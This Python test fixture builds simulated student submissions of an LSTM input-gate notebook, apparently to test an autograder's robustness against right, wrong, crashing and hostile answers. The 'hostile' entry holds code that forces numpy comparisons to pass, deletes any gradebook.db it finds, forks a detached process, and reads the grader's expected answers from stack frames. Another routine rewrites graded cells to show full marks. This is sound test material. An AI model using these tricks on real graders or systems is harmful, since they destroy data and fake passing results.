"""The class of the demonstration: people who hand in notebook 02, each in their own way.

Every submission is a real notebook: the released one, its answer cells filled in as this person would, saved as
JupyterLab, Colab or VS Code saves. `worth` is what the answers deserve, so that a test can hold the grading to it.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Any

NOTEBOOK = "02_input_gate"

GATE = "def input_gate(x, h_prev, U_i, W_i, b_i):\n"
BACK = "def input_gate_backward(di, i, x, h_prev, U_i, W_i):\n"

PLAIN = GATE + "    return sigmoid(x @ U_i.T + h_prev @ W_i.T + b_i)\n"
PLAIN_BACK = (
    BACK
    + """\
    dz = di * i * (1 - i)
    dx = dz @ U_i
    dh_prev = dz @ W_i
    dz, x, h_prev = np.atleast_2d(dz), np.atleast_2d(x), np.atleast_2d(h_prev)
    return dx, dh_prev, dz.T @ x, dz.T @ h_prev, dz.sum(axis=0)
"""
)

EINSUM = (
    GATE + "    return sigmoid(np.einsum('...d,hd->...h', x, U_i) + np.einsum('...k,hk->...h', h_prev, W_i) + b_i)\n"
)
EINSUM_BACK = (
    BACK
    + """\
    dz = di * (i - i ** 2)
    rows = dz.reshape(-1, dz.shape[-1])
    dU = np.einsum('nh,nd->hd', rows, x.reshape(-1, x.shape[-1]))
    dW = np.einsum('nh,nk->hk', rows, h_prev.reshape(-1, h_prev.shape[-1]))
    return np.einsum('...h,hd->...d', dz, U_i), np.einsum('...h,hk->...k', dz, W_i), dU, dW, rows.sum(0)
"""
)

LOOPS = (
    GATE
    + """\
    linhas = []
    for xn, hn in zip(np.atleast_2d(x), np.atleast_2d(h_prev)):
        linhas.append([1 / (1 + np.exp(-(U_i[k] @ xn + W_i[k] @ hn + b_i[k]))) for k in range(len(b_i))])
    return linhas[0] if x.ndim == 1 else linhas
"""
)
CONCATENATED = (
    GATE
    + """\
    tudo = np.concatenate([x, h_prev], axis=-1)
    pesos = np.concatenate([U_i, W_i], axis=1)
    return sigmoid(tudo @ pesos.T + b_i)
"""
)
FLOAT32 = GATE + "    return sigmoid(x @ U_i.T + h_prev @ W_i.T + b_i).astype(np.float32)\n"
WITH_HELPER = (
    GATE + "    return meia_tangente(U_i @ x.T + (W_i @ h_prev.T) + (b_i if x.ndim == 1 else b_i[:, None])).T\n"
)
HELPER = "def meia_tangente(z):\n    return 0.5 + 0.5 * np.tanh(z / 2)"
CHATTY = (
    GATE
    + """\
    print("entrou", x.shape)
    z = np.dot(x, U_i.T)
    z += np.dot(h_prev, W_i.T)
    z += b_i
    print("z =", z)
    return 1.0 / (1.0 + np.exp(-z))
"""
)
SCIPY = (
    GATE + "    import torch\n    from scipy.special import expit\n    return expit(x @ U_i.T + h_prev @ W_i.T + b_i)\n"
)

TANH = PLAIN.replace("sigmoid", "np.tanh")
NO_BIAS = PLAIN.replace(" + b_i", "")
OVERFLOW = GATE + "    z = x @ U_i.T + h_prev @ W_i.T + b_i\n    return np.exp(z) / (1 + np.exp(z))\n"
ONE_EXAMPLE = GATE + "    return sigmoid(U_i @ x + W_i @ h_prev + b_i)\n"
MEAN = PLAIN_BACK.replace(
    "dz.T @ x, dz.T @ h_prev, dz.sum(axis=0)", "dz.T @ x / len(x), dz.T @ h_prev / len(x), dz.mean(axis=0)"
)
TRANSPOSED = PLAIN_BACK.replace("dz @ W_i", "dz @ W_i.T")
NO_DERIVATIVE = PLAIN_BACK.replace("di * i * (1 - i)", "di")
SWAPPED = PLAIN_BACK.replace("return dx, dh_prev,", "return dh_prev, dx,")
SYNTAX = GATE + "    return sigmoid(x @ U_i.T + h_prev @ W_i.T + b_i\n"
MISSPELT = PLAIN.replace("sigmoid", "sigmoide")
SEGFAULT = GATE + "    import ctypes\n    ctypes.string_at(0)\n"
ENDLESS = GATE + "    while True:\n        pass\n"

HOSTILE_CELL = """\
import os, sys, builtins
import numpy.testing
np.allclose = np.isclose = np.array_equal = np.testing.assert_allclose = lambda *a, **k: True
sys.displayhook = lambda value: None
for folder, _, files in os.walk("/"):
    if "gradebook.db" in files:
        open(os.path.join(folder, "gradebook.db"), "wb").write(b"")
if os.fork() == 0:
    os.setsid()
    while True:
        os.kill(os.getppid(), 0)
"""
HOSTILE_GATE = (
    GATE
    + """\
    class Igual(np.ndarray):
        def __array_function__(self, *args, **kwargs):
            return True
        def __eq__(self, outro):
            return np.ones(self.shape, bool)
    quadro = sys._getframe()
    while quadro is not None:
        for valor in list(quadro.f_locals.values()):
            if isinstance(valor, dict) and 'expected' in valor:
                return valor['expected']
        quadro = quadro.f_back
    return np.zeros(h_prev.shape).view(Igual)
"""
)


@dataclass(frozen=True)
class Person:
    """Somebody who hands in: how they filled it in, how they saved it, and what that is worth of 10 (None: computed)."""

    id: str
    first_name: str
    last_name: str
    manner: str
    gate: str | None = PLAIN
    backward: str | None = PLAIN_BACK
    saved_by: str = "jupyterlab"
    extra: str | None = None  # a cell of their own, right after the set-up
    tampered: bool = False  # graded cells edited, copied, tagged, deleted
    corrupt: bool = False
    in_list: bool = True


CLASS = (
    Person("ana.alves", "Ana", "Alves", "certa, como no slide"),
    Person("bruno.braga", "Bruno", "Braga", "certa, com einsum", EINSUM, EINSUM_BACK, "colab"),
    Person("carla.costa", "Carla", "Costa", "certa, com laços e listas", LOOPS, PLAIN_BACK, "vscode"),
    Person("diego.dias", "Diego", "Dias", "certa, com pesos concatenados", CONCATENATED, EINSUM_BACK),
    Person("elisa.esteves", "Elisa", "Esteves", "certa, em float32", FLOAT32, PLAIN_BACK, "colab"),
    Person("fabio.faria", "Fábio", "Faria", "certa, com uma função própria", WITH_HELPER, PLAIN_BACK, extra=HELPER),
    Person("gabriela.gomes", "Gabriela", "Gomes", "certa, com muitos print", CHATTY, EINSUM_BACK),
    Person("hugo.horta", "Hugo", "Horta", "certa, com SciPy e um import torch sem uso", SCIPY, PLAIN_BACK),
    Person("iara.inacio", "Iara", "Inácio", "tanh no lugar de σ", TANH, PLAIN_BACK, "colab"),
    Person("joao.jardim", "João", "Jardim", "sem o viés", NO_BIAS),
    Person("karina.kato", "Karina", "Kato", "tanh no lugar de σ", TANH, None),
    Person("lucas.lima", "Lucas", "Lima", "média no lugar da soma", PLAIN, MEAN, "colab"),
    Person("marina.melo", "Marina", "Melo", "W transposta na volta", PLAIN, TRANSPOSED),
    Person("nelson.neves", "Nélson", "Neves", "sem a derivada de σ", PLAIN, NO_DERIVATIVE, "vscode"),
    Person("olga.oliveira", "Olga", "Oliveira", "sem o viés", NO_BIAS, TRANSPOSED),
    Person("paulo.pinto", "Paulo", "Pinto", "dx e dh_prev trocados", PLAIN, SWAPPED),
    Person("queila.queiroz", "Queila", "Queiroz", "só a ida", PLAIN, None, "colab"),
    Person("rafael.rocha", "Rafael", "Rocha", "só para um exemplo", ONE_EXAMPLE, None),
    Person("sara.souza", "Sara", "Souza", "exp(z) transborda", OVERFLOW),
    Person("tiago.torres", "Tiago", "Torres", "tanh e média", TANH, MEAN, "vscode"),
    Person("ursula.uchoa", "Úrsula", "Uchoa", "em branco", None, None),
    Person("vitor.vieira", "Vítor", "Vieira", "um nome errado", MISSPELT, None),
    Person("wanda.weber", "Wanda", "Weber", "erro de sintaxe na ida", SYNTAX, PLAIN_BACK, "colab"),
    Person("xavier.xisto", "Xavier", "Xisto", "derruba o processo", SEGFAULT, PLAIN_BACK),
    Person("yara.yoshida", "Yara", "Yoshida", "laço sem fim", ENDLESS, PLAIN_BACK),
    Person("zeca.zanetti", "Zeca", "Zanetti", "células de correção mexidas", tampered=True),
    Person("hostil", "H.", "Hostil", "hostil", HOSTILE_GATE, None, extra=HOSTILE_CELL, tampered=True),
    Person("alex.arruda", "Alex", "Arruda", "arquivo corrompido", corrupt=True),
    Person("bia.barros", "Bia", "Barros", "fora da lista", in_list=False),
)


def hand_in(released: dict[str, Any], person: Person) -> bytes:
    """The file that a person hands in, made from the released notebook (as JSON)."""
    import json

    notebook = copy.deepcopy(released)
    cells = notebook["cells"]
    _fill(cells, {"input_gate": person.gate, "input_gate_backward": person.backward})
    if person.extra:
        setup = next(k for k, cell in enumerate(cells) if cell["metadata"].get("enap_lstm", {}).get("role") == "setup")
        cells.insert(setup + 1, _code_cell(person.extra))
    if person.tampered:
        _tamper(cells)
    SAVES[person.saved_by](notebook)
    raw = json.dumps(notebook, ensure_ascii=False, indent=1).encode()
    return raw[: len(raw) // 3] if person.corrupt else raw


def _fill(cells: list[dict[str, Any]], answers: dict[str, str | None]) -> None:
    for cell in cells:
        answer = answers.get(cell["metadata"].get("nbgrader", {}).get("grade_id", ""))
        if answer is not None:
            cell["source"] = answer
            cell["execution_count"] = 7


def _code_cell(source: str) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "id": "uma-a-mais",
        "metadata": {},
        "source": source,
        "outputs": [],
        "execution_count": 3,
    }


def _tamper(cells: list[dict[str, Any]]) -> None:
    """Graded cells made to print full marks, one pasted twice, one tagged to be skipped."""
    graded = [cell for cell in cells if cell["metadata"].get("nbgrader", {}).get("grade")]
    for cell in graded:
        cell["source"] = "10.0"
        cell["metadata"]["tags"] = ["skip-execution"]
        cell["metadata"]["nbgrader"]["points"] = 1000
        cell["outputs"] = [
            {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "10.0"}}
        ]
    cells.append(copy.deepcopy(graded[0]))


def _as_jupyterlab(notebook: dict[str, Any]) -> None:
    """JupyterLab keeps everything and adds trust and execution times."""
    for cell in notebook["cells"]:
        cell["metadata"]["execution"] = {"iopub.execute_input": "2026-03-02T21:14:07.512Z"}
        cell["metadata"]["trusted"] = True


def _as_colab(notebook: dict[str, Any]) -> None:
    """Colab writes format 4.0 with ids of its own in the metadata; nbgrader's metadata does not survive every way there."""
    notebook["nbformat_minor"] = 0
    notebook["metadata"]["colab"] = {"provenance": []}
    for k, cell in enumerate(notebook["cells"]):
        cell.pop("id", None)
        cell["metadata"] = {"id": f"Xk{k:02d}sV9qLm2"}
        cell["source"] = cell["source"].splitlines(keepends=True) if isinstance(cell["source"], str) else cell["source"]


def _as_vscode(notebook: dict[str, Any]) -> None:
    """VS Code names a language for every cell and drops what it does not know from the notebook's metadata."""
    notebook["metadata"] = {"language_info": {"name": "python"}, "orig_nbformat": 4}
    for cell in notebook["cells"]:
        cell["metadata"]["vscode"] = {"languageId": "python" if cell["cell_type"] == "code" else "markdown"}


SAVES = {"jupyterlab": _as_jupyterlab, "colab": _as_colab, "vscode": _as_vscode}
